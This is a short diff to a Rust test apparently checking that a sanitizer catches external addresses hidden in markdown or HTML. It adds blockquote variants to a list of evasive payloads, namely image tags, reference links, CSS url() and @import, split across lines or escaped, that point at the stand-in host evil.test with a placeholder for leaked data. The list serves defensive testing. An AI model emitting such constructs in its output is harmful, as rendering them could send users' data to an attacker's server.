@@ -97,6 +97,8 @@ fn case_67_no_line_end_escape_or_layer_hides_an_address() {
         "<img src=\"https:/\n/evil.test/S.png\">",
         "<img alt=\"<b\" src=\"https:/\n/evil.test/S.png\">",
         ".. raw:: html\n\n   <img src=\"https:/\n   /evil.test/S.png\">",
+        "> [r]:\n> https://known.org/x?d=S\n>\n> ![r]",
+        "> <img src=\"https:/\n> /evil.test\">",
         "<p style=\"background: url(\\68ttps:\\2f\\2f evil.test/S)\">",
         "<style>@import \"\\2f\\2f evil.test/S\"</style>",
         "<style>@import url(htt\\\nps://evil.test/S)</style>",
